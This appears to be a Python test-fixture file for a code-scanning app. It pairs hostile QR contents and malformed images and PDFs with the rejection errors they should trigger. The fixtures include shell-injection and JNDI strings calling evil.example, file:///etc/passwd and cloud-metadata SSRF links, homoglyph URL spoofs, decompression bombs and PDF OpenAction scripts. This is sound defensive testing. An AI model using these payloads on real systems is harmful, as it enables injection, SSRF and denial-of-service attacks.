"""Codes and files that somebody made to trip whoever looks at them."""

from __future__ import annotations

import io
import json
import struct
import zlib
from collections.abc import Callable

import cv2
import numpy as np
import segno

from tests.fakes.codes import LINK, Pixels, code, png

ID = "AAECAwQFBgcICQoLDA0ODw"
GOOD = code(LINK)


def code_of(content: str | bytes) -> bytes:
    """A PNG with one code in it, as large as it needs to be."""
    buffer = io.BytesIO()
    segno.make(content, micro=False, error="l", boost_error=False).save(buffer, kind="png", scale=3, border=4)
    return buffer.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of(width: int, height: int, *chunks: bytes, depth: int = 1, colour: int = 0) -> bytes:
    """A PNG with a header and whatever else."""
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + b"".join(chunks)


def zeros(count: int) -> bytes:
    """So many zeros, in a thousandth of the bytes."""
    packer = zlib.compressobj(9)
    block = bytes(1_000_000)
    return b"".join(packer.compress(block) for _ in range(count // len(block))) + packer.flush()


def encoded(kind: str, pixels: Pixels = GOOD, *options: int) -> bytes:
    colours = np.dstack([pixels] * 3) if kind == ".gif" else pixels  # whose writer takes no grey
    return bytes(cv2.imencode(kind, colours, list(options))[1].tobytes())


def with_size(content: bytes, at: int, form: str, *numbers: int) -> bytes:
    """A file whose header says another size."""
    size = struct.calcsize(form)
    return content[:at] + struct.pack(form, *numbers) + content[at + size :]


def jpeg_of_size(width: int, height: int) -> bytes:
    content = encoded(".jpg")
    return with_size(content, content.index(b"\xff\xc0") + 5, ">HH", height, width)


def jpeg_of_scans(count: int) -> bytes:
    """A large picture that is painted over and over, in a few bytes each time."""
    content = encoded(".jpg", np.zeros((4_000, 4_000), np.uint8), cv2.IMWRITE_JPEG_PROGRESSIVE, 1)
    scan = content[content.rindex(b"\xff\xda") : -2]
    return content[:-2] + scan * count + content[-2:]


def gif_frame_larger_than_its_screen() -> bytes:
    content = encoded(".gif", np.zeros((8, 8), np.uint8))
    at = content.index(b",\0\0\0\0")
    return with_size(content, at + 5, "<HH", 60_000, 60_000)


def pdf(*objects: bytes) -> bytes:
    """A document of these objects, the first of which is its catalogue."""
    body = b"%PDF-1.7\n"
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return body + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1,
        table,
        len(objects) + 1,
        len(body),
    )


def one_page(content: bytes = b"", box: bytes = b"0 0 200 200", extra: bytes = b"", *objects: bytes) -> bytes:
    """A document of one page with this content."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R%s>>" % extra,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>" % box,
        content if content.startswith(b"<<") else stream(content),
        *objects,
    )


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), extra, content)


def nested(depth: int) -> str:
    return "[" * depth


def code_of_sequence() -> bytes:
    """The first of several codes that belong together."""
    buffer = io.BytesIO()
    segno.make_sequence(LINK, symbol_count=2, error="l")[0].save(buffer, kind="png", scale=3, border=4)
    return buffer.getvalue()


def _other_code(*chunks: bytes) -> bytes:
    """A code of something else, with chunks of ours behind its header."""
    content = code_of("https://shop.example/sale")
    return content[:33] + b"".join(chunks) + content[33:]


def png_with_text_bomb() -> bytes:
    return _other_code(*[chunk(b"zTXt", b"Comment\0\0" + zeros(100_000_000))] * 3)


def png_with_profile_bomb() -> bytes:
    return _other_code(chunk(b"iCCP", b"profile\0\0" + zeros(100_000_000)))


def webp_of_size(width: int, height: int) -> bytes:
    """A lossless WebP that says another size."""
    content = encoded(".webp", GOOD, cv2.IMWRITE_WEBP_QUALITY, 101)
    at = content.index(b"VP8L") + 9
    (bits,) = struct.unpack_from("<I", content, at)
    return with_size(content, at, "<I", bits & ~0xFFFFFFF | (width - 1) | (height - 1) << 14)


def png_with_an_endless_chunk() -> bytes:
    return png(GOOD)[:33] + b"\xff\xff\xff\xffIDAT" + bytes(90)


def packed(count: int) -> tuple[bytes, bytes]:
    """The data of a PNG: so many zeros."""
    return chunk(b"IDAT", zeros(count)), chunk(b"IEND", b"")


CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
DEFLATED = b"/Filter/FlateDecode"
ADDRESS = b"<</S/URI/URI(http://evil.example/a)>>"
SCRIPT = b"<</S/JavaScript/JS(app.launchURL\\('http://evil.example'\\))>>"


def pdf_that_draws_itself() -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"
    return one_page(b"/X Do", b"0 0 200 200", b"", stream(b"/X Do", form))


def pdf_with_a_picture_of(width: int, height: int) -> bytes:
    form = b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 8" % (width, height)
    picture = stream(zeros(width * height), form + DEFLATED)
    return one_page(b"q 200 0 0 200 0 0 cm /X Do Q", b"0 0 200 200", b"", picture)


def pdf_with_a_picture_from_elsewhere() -> bytes:
    picture = (
        b"/Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8"
        b"/F<</FS/URL/F(http://evil.example/a.png)>>"
    )
    return one_page(b"q 200 0 0 200 0 0 cm /X Do Q", b"0 0 200 200", b"", stream(b"", picture))


# Codes: name, what is in them, the code of the error.
CODES: list[tuple[str, Callable[[], bytes], str]] = [
    (name, (lambda content=content: code_of(content)), expected)  # type: ignore[misc]
    for name, content, expected in [
        ("javascript", "javascript:fetch('https://evil.example')", "link_invalid"),
        ("data-url", "data:text/html,<script>alert(1)</script>", "link_invalid"),
        ("file-url", "file:///etc/passwd", "link_invalid"),
        ("unc-path", r"\\evil.example\share\code.png", "link_invalid"),
        ("ftp", f"ftp://relay.example/r/{ID}#{ID}", "link_invalid"),
        ("websocket", f"wss://relay.example/r/{ID}#{ID}", "link_invalid"),
        ("intent", f"intent://relay.example/r/{ID}#Intent;scheme=https;end", "link_invalid"),
        ("windows-settings", "ms-settings:signinoptions", "link_invalid"),
        ("one-time-password", "otpauth://totp/x?secret=JBSWY3DPEHPK3PXP", "link_invalid"),
        ("passkey-of-a-phone", "FIDO:/0123456789012345678901234567890123456789", "link_invalid"),
        ("wallet", "wc:7f6e504bfad60b485450578e05678ed3e8e8c4751d3c6160be17160d63ec90f9@2", "link_invalid"),
        ("telephone", "tel:*21*0123456789#", "link_invalid"),
        ("contact-card", "BEGIN:VCARD\r\nFN:Bank\r\nEND:VCARD", "link_invalid"),
        ("scheme-in-capitals", f"HTTPS://relay.example/r/{ID}#{ID}", "link_invalid"),
        ("our-scheme-in-capitals", f"COUNTERSIGN://relay.example/r/{ID}?h={ID}", "link_invalid"),
        ("our-scheme-with-one-slash", f"countersign:/relay.example/r/{ID}?h={ID}", "link_invalid"),
        ("scheme-twice", f"https://https://relay.example/r/{ID}#{ID}", "link_invalid"),
        ("no-scheme", f"//relay.example/r/{ID}#{ID}", "link_invalid"),
        ("bidi-override", f"https://relay.example\u202e/r/{ID}#{ID}", "link_invalid"),
        ("bidi-isolate-before", f"\u2066{LINK}", "link_invalid"),
        ("right-to-left-mark-behind", f"{LINK}\u200f", "link_invalid"),
        ("zero-width-in-the-host", f"https://rel\u200bay.example/r/{ID}#{ID}", "link_invalid"),
        ("cyrillic-letter", f"https://r\u0435lay.example/r/{ID}#{ID}", "link_invalid"),
        ("fullwidth-slash", f"https://relay.example\uff0fr/{ID}#{ID}", "link_invalid"),
        ("fullwidth-dot", f"https://relay\uff0eexample/r/{ID}#{ID}", "link_invalid"),
        ("combining-mark", f"https://rela\u0301y.example/r/{ID}#{ID}", "link_invalid"),
        ("emoji", "\U0001f511" * 40, "link_invalid"),
        ("nul-behind", f"{LINK}\0", "link_invalid"),
        ("nul-before", f"\0{LINK}", "link_invalid"),
        ("nul-in-the-host", f"https://relay.example\0.evil.example/r/{ID}#{ID}", "link_invalid"),
        ("only-nuls", bytes(60), "link_invalid"),
        ("line-break-and-header", f"https://relay.example\r\nX-Evil: 1/r/{ID}#{ID}", "link_invalid"),
        ("tab-in-the-host", f"https://relay.ex\tample/r/{ID}#{ID}", "link_invalid"),
        ("escape-sequences", "\x1b]0;owned\x07\x1b[2J", "link_invalid"),
        ("bytes-that-are-no-text", b"\xff\xfe\xfd\x80\x81" * 20, "link_invalid"),
        ("half-a-character", b"https://relay.example/\xe2\x82", "link_invalid"),
        ("sixteen-bit-text", LINK.encode("utf-16"), "link_invalid"),
        ("2953-letters", "A" + "a" * 2_952, "link_invalid"),
        ("2953-bytes", bytes(range(256)) * 11 + bytes(137), "link_invalid"),
        ("7089-digits", "9" * 7_089, "link_invalid"),
        ("4296-capitals", "A" * 4_296, "link_invalid"),
        ("a-link-and-2000-letters", LINK + "a" * 2_000, "link_invalid"),
        ("2000-blanks-and-a-link", " " * 2_000 + LINK, "link_invalid"),
        ("deep-lists", nested(2_900), "link_invalid"),
        ("deep-objects", '{"a":' * 580, "link_invalid"),
        ("a-list-of-lists-that-ends", nested(1_400) + "]" * 1_400, "link_invalid"),
        ("billion-laughs", '<!DOCTYPE a [<!ENTITY b "&c;&c;">]><a>&b;</a>', "link_invalid"),
        ("a-huge-number", json.dumps({"exp": 10**400}), "link_invalid"),
        ("format-string", "%s%n{0.__class__}${jndi:ldap://evil.example/a}", "link_invalid"),
        ("shell", "$(curl evil.example)`id`;reboot", "link_invalid"),
        ("a-user-before-the-host", f"https://bank.example@evil.example/r/{ID}#{ID}", "link_unsafe"),
        ("http-to-elsewhere", f"http://relay.example/r/{ID}#{ID}", "link_unsafe"),
        ("cloud-metadata", f"http://169.254.169.254/r/{ID}#{ID}", "link_unsafe"),
        ("private-address", f"http://192.168.0.1/r/{ID}#{ID}", "link_unsafe"),
        ("dot-segments", f"https://relay.example/r/../r/{ID}#{ID}", "link_invalid"),
        ("escaped-slash", f"https://relay.example%2fr/{ID}#{ID}", "link_invalid"),
        ("backslash", f"https://relay.example\\r\\{ID}#{ID}", "link_invalid"),
        ("a-query", f"https://relay.example/r/{ID}?next=https://evil.example#{ID}", "link_invalid"),
        ("two-fragments", f"https://relay.example/r/{ID}#{ID}#{ID}", "link_invalid"),
        ("empty-host", f"https:///r/{ID}#{ID}", "link_invalid"),
        ("a-port-beyond-all", f"https://relay.example:65536/r/{ID}#{ID}", "link_invalid"),
        ("a-port-that-is-none", f"https://relay.example:80a/r/{ID}#{ID}", "link_invalid"),
        ("a-number-for-a-host", f"https://2130706433/r/{ID}#{ID}", "link_unsafe"),
        ("a-host-in-hexadecimal", f"https://0x7f.1/r/{ID}#{ID}", "link_unsafe"),
        ("a-host-with-a-dot-behind", f"https://relay.example./r/{ID}#{ID}", "link_invalid"),
        ("a-digest-with-another-ending", f"https://relay.example/r/{ID}#{ID[:-1]}x", "link_invalid"),
    ]
]

# Files: name, the file, the code of the error.
FILES: list[tuple[str, Callable[[], bytes], str]] = [
    ("a-part-of-several-codes", code_of_sequence, "link_invalid"),
    ("nothing", lambda: b"", "image_unreadable"),
    ("one-byte", lambda: b"\x89", "image_unreadable"),
    ("a-megabyte-of-zeros", lambda: bytes(2**20), "image_unreadable"),
    ("svg-with-an-address", lambda: b'<svg><image href="http://evil.example/a.png"/></svg>', "image_unreadable"),
    ("html", lambda: b"<html><img src='http://evil.example/a.png'></html>", "image_unreadable"),
    ("zip", lambda: b"PK\x03\x04" + bytes(60), "image_unreadable"),
    ("a-program", lambda: b"\x7fELF" + bytes(200), "image_unreadable"),
    ("tiff", lambda: encoded(".tiff"), "image_unreadable"),
    ("portable-pixels", lambda: encoded(".pgm"), "image_unreadable"),
    ("high-dynamic-range", lambda: b"#?RADIANCE\n" + bytes(60), "image_unreadable"),
    ("png-bomb-of-a-header", lambda: png_of(60_000, 60_000), "too_large"),
    ("png-of-one-endless-row", lambda: png_of(2**31 - 1, 1), "too_large"),
    ("png-without-rows", lambda: png_of(100, 0), "image_unreadable"),
    ("png-of-49-million-zeros", lambda: png_of(7_000, 7_000, *packed(50_000_000), depth=8), "no_code_found"),
    ("png-with-more-rows-than-it-says", lambda: png_of(8, 8, *packed(100_000_000)), "no_code_found"),
    ("png-with-a-bomb-for-a-text", png_with_text_bomb, "link_invalid"),
    ("png-with-a-bomb-for-a-profile", png_with_profile_bomb, "link_invalid"),
    ("png-with-a-chunk-of-four-gigabytes", png_with_an_endless_chunk, "image_unreadable"),
    ("png-with-a-wrong-sum", lambda: png(GOOD)[:29] + b"\0\0\0\0" + png(GOOD)[33:], "image_unreadable"),
    ("jpeg-bomb-of-a-header", lambda: jpeg_of_size(65_535, 65_535), "too_large"),
    ("jpeg-larger-than-its-data", lambda: jpeg_of_size(7_000, 7_000), "no_code_found"),
    ("jpeg-of-markers-alone", lambda: b"\xff\xd8" + b"\xff\xe0\x00\x02" * 50_000, "image_unreadable"),
    ("jpeg-of-fill-bytes", lambda: b"\xff\xd8" + b"\xff" * 200_000, "image_unreadable"),
    ("jpeg-of-two-thousand-scans", lambda: jpeg_of_scans(2_000), "too_large"),
    ("jpeg-of-a-length-of-nothing", lambda: b"\xff\xd8\xff\xe0\x00\x00" * 1_000, "image_unreadable"),
    ("webp-bomb-of-a-header", lambda: webp_of_size(16_384, 16_384), "too_large"),
    ("webp-larger-than-its-data", lambda: webp_of_size(7_000, 7_000), "image_unreadable"),
    ("webp-of-no-kind", lambda: b"RIFF\xff\xff\xff\xffWEBPEVIL" + bytes(60), "image_unreadable"),
    ("gif-bomb-of-a-header", lambda: with_size(encoded(".gif"), 6, "<HH", 65_535, 65_535), "too_large"),
    ("gif-with-a-picture-larger-than-its-screen", gif_frame_larger_than_its_screen, "image_unreadable"),
    ("gif-of-a-header-alone", lambda: b"GIF89a\x40\x00\x40\x00\x00\x00\x00", "image_unreadable"),
    ("bmp-bomb-of-a-header", lambda: with_size(encoded(".bmp"), 18, "<ii", 2**31 - 1, 2**31 - 1), "too_large"),
    ("bmp-of-the-least-number", lambda: with_size(encoded(".bmp"), 18, "<ii", -(2**31), -(2**31)), "too_large"),
    ("bmp-larger-than-its-data", lambda: with_size(encoded(".bmp"), 18, "<ii", 7_000, 7_000), "image_unreadable"),
    ("bmp-of-an-endless-header", lambda: with_size(encoded(".bmp"), 14, "<I", 2**32 - 1), "image_unreadable"),
    ("pdf-of-a-header-alone", lambda: b"%PDF-1.7\n", "image_unreadable"),
    ("pdf-without-pages", lambda: pdf(CATALOGUE, b"<</Type/Pages/Kids[]/Count 0>>"), "image_unreadable"),
    ("pdf-of-a-billion-pages", lambda: pdf(CATALOGUE, b"<</Type/Pages/Kids[]/Count 1000000000>>"), "image_unreadable"),
    ("pdf-whose-pages-hold-themselves", lambda: pdf(CATALOGUE, b"<</Kids[2 0 R]/Count 1>>"), "image_unreadable"),
    ("pdf-of-a-page-without-end", lambda: one_page(box=b"0 0 99999999 99999999"), "too_large"),
    ("pdf-of-a-page-without-width", lambda: one_page(box=b"0 0 0 0"), "no_code_found"),
    ("pdf-with-a-bomb-for-a-page", lambda: one_page(stream(zeros(60_000_000), DEFLATED)), "no_code_found"),
    ("pdf-that-draws-itself", pdf_that_draws_itself, "no_code_found"),
    ("pdf-that-opens-an-address", lambda: one_page(extra=b"/OpenAction" + ADDRESS), "no_code_found"),
    ("pdf-with-a-script", lambda: one_page(extra=b"/OpenAction" + SCRIPT), "no_code_found"),
    ("pdf-with-a-bomb-for-a-picture", lambda: pdf_with_a_picture_of(10_000, 10_000), "no_code_found"),
    ("pdf-with-a-picture-from-elsewhere", pdf_with_a_picture_from_elsewhere, "no_code_found"),
    ("pdf-of-deep-lists", lambda: one_page(b"[" * 100_000), "no_code_found"),
]
